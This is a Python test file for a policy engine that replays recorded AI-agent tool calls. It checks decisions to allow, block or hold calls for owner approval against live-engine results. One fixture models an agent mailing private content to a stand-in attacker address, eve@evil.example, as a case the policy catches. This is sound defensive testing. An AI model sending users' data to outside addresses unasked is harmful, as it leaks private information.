"""The replay step: it decides as the engine does, and says which decisions nobody can vouch for."""

import random
from pathlib import Path

import pytest

from thoth.engine import Engine, load
from thoth.engine.embed import Engine as Embedded
from thoth.engine.rerun import Rerun
from thoth.simulation import RecordedSession, ReplayClock, read_traces, replay
from thoth.simulation.calls import ALONE
from thoth.simulation.changes import sentence
from thoth.simulation.masking import Masking
from thoth.simulation.step import Replayer, replay_group

from .recordings import CALL, NEW, OLD, trace, write

HOUSE = Path(__file__).resolve().parents[2]


def replayed(policy: str, places: list[Path], old: str | None = None) -> Replayer:
    carry = Replayer(
        Rerun(Engine.from_text(policy).policy), Rerun(Engine.from_text(old).policy) if old is not None else None
    )
    replay_group(carry, read_traces(places))
    return carry


@pytest.mark.parametrize("evaluator", ["native", "reference"])
def test_it_decides_every_call_of_the_demo_as_the_engine_does(evaluator: str) -> None:
    """The engine and the replay step keep their own books; on the same past they come to the same decisions."""
    policy, _ = load([HOUSE / "examples/demo.thoth"])
    clock = ReplayClock()
    engine = Embedded(policy, evaluator=evaluator, clock=clock)  # type: ignore[arg-type]
    traces = read_traces([HOUSE / "examples/traces"])
    live = [
        (call.session_id, call.seq, decision.effect, decision.rules, decision.reservations, decision.violation)
        for call, decision in replay(engine, traces, clock)
    ]
    rerun = Rerun(policy, evaluator)  # type: ignore[arg-type]
    found = []
    decided = rerun.decided

    def noted(request, **settings):  # type: ignore[no-untyped-def]
        decision = decided(request, **settings)
        id = settings["session"].id
        found.append((id, decision.effect, decision.rules, decision.reservations, decision.violation))
        return decision

    rerun.decided = noted
    # One group: the engine's counters too go through all sessions in the order of the file.
    sessions = (RecordedSession(s.id, s.prompt, s.calls, group=0) for s in traces)
    carry = Replayer(rerun)
    carry.passage = None  # one call at a time, by way of `decided`
    replay_group(carry, sessions)
    assert [(id, *rest) for id, _, *rest in live] == found
    assert len(found) == 338


def test_what_comes_behind_a_stop_is_hypothetical_and_counted_apart(tmp_path: Path) -> None:
    carry = replayed(NEW, [trace(tmp_path, sessions=2)])
    real = carry.tally.by("effect", where=lambda one: not one.hypothetical)
    behind = carry.tally.by("effect", where=lambda one: one.hypothetical)
    # s00 is held at its second call, s01 is blocked at its third.
    assert real == {"ALLOW": 3, "STEP_UP": 1, "BLOCK": 1}
    assert behind == {"ALLOW": 2, "BLOCK": 1}
    assert (carry.tally.sessions, carry.tally.sessions_stopped) == (2, 2)


def test_both_policies_see_the_same_past(tmp_path: Path) -> None:
    carry = replayed(NEW, [trace(tmp_path)], old=OLD)
    assert carry.tally.by("was") == {"ALLOW": 24}
    changed = carry.tally.by("was", "effect", "rules", where=lambda one: one.was != one.effect)
    assert changed == {("ALLOW", "STEP_UP", ("unasked",)): 3, ("ALLOW", "BLOCK", ("no-wipe",)): 6}


def test_a_session_that_shares_no_counter_has_a_ledger_of_its_own(tmp_path: Path) -> None:
    carry = replayed(NEW, [trace(tmp_path)])
    assert carry.ledgers == {}
    assert all(session.group == ALONE for session in read_traces([tmp_path]))


def test_an_example_is_a_sentence_with_its_reason_and_without_texts(tmp_path: Path) -> None:
    args = {"to": ["eve@evil.example"], "body": "what nobody else should read"}
    write(tmp_path / "x.jsonl", CALL | {"tool_name": "send_mail", "tool_args": args})
    carry = replayed(NEW, [tmp_path], old=OLD)
    ((_, (example,)),) = carry.tally.examples.items()
    told = sentence(example, {"unasked": "nobody asked for mail to this address"}, Masking((carry.new,)))
    assert told == (
        'On 2026-03-02 at 09:00 UTC bot called send_mail(to: ["eve@evil.example"], body: [28 characters]).'
        " It was allowed by declared; it would wait for owner: nobody asked for mail to this address (unasked)."
    )


def test_tallies_of_groups_add_up_to_the_tally_of_all(tmp_path: Path) -> None:
    whole = replayed(NEW, [trace(tmp_path)], old=OLD).tally
    traces = read_traces([tmp_path])
    parts = []
    for part in range(3):
        carry = Replayer(Rerun(Engine.from_text(NEW).policy), Rerun(Engine.from_text(OLD).policy))
        parts.append(replay_group(carry, traces.sessions(part, 3)))
    parts[0].add(parts[1])
    parts[0].add(parts[2])
    assert parts[0] == whole


COUNTING = """\
policy counting
    approvers "owner"
tool look(id: key string) is read yields seen
tool send(to: key string, body: string) is send
tool wipe(path: key string) is delete
allow class read, class send, class delete as declared
block wipe as third when calls(wipe) >= 2
block send as after-look when session.labels contains seen unless calls(look) > 3
step_up send as often when completed(send) >= 4 unless args.to from user or args.to from tool look
limit wipe as some to 5 calls per 1h by session else block
block * as stopped when session.blocks >= 6
"""


def test_stretches_of_the_demo_come_to_what_one_call_at_a_time_comes_to() -> None:
    policy, _ = load([HOUSE / "examples/demo.thoth"])
    fast, slow = Replayer(Rerun(policy)), Replayer(Rerun(policy))
    slow.passage = None
    for carry in (fast, slow):
        replay_group(
            carry, (RecordedSession(s.id, s.prompt, s.calls, group=0) for s in read_traces([HOUSE / "examples/traces"]))
        )
    assert fast.tally == slow.tally
    assert fast.tally.calls == 338


@pytest.mark.parametrize("remembers", [True, False])
def test_stretches_of_plain_calls_come_to_what_one_call_at_a_time_comes_to(tmp_path: Path, remembers: bool) -> None:
    chance = random.Random(7)
    rows = [
        CALL
        | {
            "session_id": f"s{session:02}",
            "seq": seq,
            "ts": f"2026-03-0{1 + (session + seq // 15) % 3}T23:{seq:02}:00Z",
            "agent_id": f"a{seq // 12 % 2}",
            "suite": ("office", None)[seq // 17 % 2],
            "tool_name": (tool := chance.choice(["look", "send", "wipe", "wipe", "unheard-of"])),
            "tool_args": {
                "look": {"id": "one"},
                "send": {"to": chance.choice(["ann", "bob"]), "body": "x"},
                "wipe": {"path": "/a"},
            }.get(tool, {}),
            "executed": chance.random() > 0.05,
            "tool_error": None if chance.random() > 0.05 else "it broke",
            "tool_result_excerpt": chance.choice(["ann wrote", "nothing", "", None]),
        }
        for session in range(30)
        for seq in range(40)
    ]
    write(tmp_path / "x.jsonl", *rows)
    text = COUNTING if remembers else COUNTING.replace(" or args.to from tool look", "")
    policy = Engine.from_text(text).policy
    fast, slow = Replayer(Rerun(policy)), Replayer(Rerun(policy))
    plain = Replayer(Rerun(policy, "reference"))
    assert fast.passage is not None
    assert plain.passage is None
    slow.passage = None
    for carry in (fast, slow, plain):
        replay_group(carry, read_traces([tmp_path]))
    assert fast.tally == slow.tally == plain.tally
    assert fast.tally.calls == 1_200
    assert len(fast.tally.outcomes) > 20
    assert {one.effect for one in fast.tally.outcomes} == {"ALLOW", "BLOCK", "STEP_UP"}
